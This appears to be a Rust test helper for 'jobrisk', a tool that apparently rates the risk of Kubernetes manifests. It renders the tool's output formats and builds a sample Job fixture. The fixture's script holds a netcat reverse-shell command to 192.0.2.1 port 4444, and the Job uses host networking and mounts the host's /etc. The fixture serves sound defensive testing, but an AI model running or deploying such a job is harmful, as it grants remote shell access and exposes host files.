//! The formats without the binary: quick enough for many inputs.

use jobrisk::assess::assess;
use jobrisk::manifest::{self, Item};
use jobrisk::output::{self, Error, Format, Results, Settings, Workload};
use jobrisk::severity::Severity;
use serde_json::{Value, json};

/// The output for one file.
pub(crate) fn render(format: Format, file: &str, content: &[u8]) -> String {
    let mut results =
        Results { files: vec![jobrisk::text::escaped(file).into_owned()], ..Results::default() };
    manifest::read(content, &mut |item| match item {
        Item::Workload(manifest) => {
            let assessment = assess(manifest.kind, &manifest.object);
            let mut workload = Workload::new(file, &manifest, &assessment);
            workload.complete(format, &manifest, &assessment).unwrap();
            results.workloads.push(workload);
        }
        Item::Other(other) => results.skipped.add(other.kind),
        Item::Unreadable(problem) => results.errors.push(Error::new(file, &problem)),
    });
    let settings = Settings {
        fail_on: Some(Severity::High),
        min_severity: Severity::None,
        color: false,
        working_directory: String::new(),
    };
    let mut out = Vec::new();
    output::write(format, &results, &settings, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// A reverse shell with `text` in names, labels and the script, where it changes nothing of what is found.
pub(crate) fn job_with(text: &str) -> Value {
    let script = format!("set -e\nnc -e /bin/sh 192.0.2.1 4444 '{}'\n: done", text.replace('\'', ""));
    json!({
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": text, "namespace": text, "labels": {text: text}},
        "spec": {"template": {"spec": {
            "hostNetwork": true,
            "containers": [{"name": text, "image": "alpine", "command": ["sh", "-c", script]}],
            "volumes": [{"name": text, "hostPath": {"path": "/etc"}}],
        }}},
    })
}
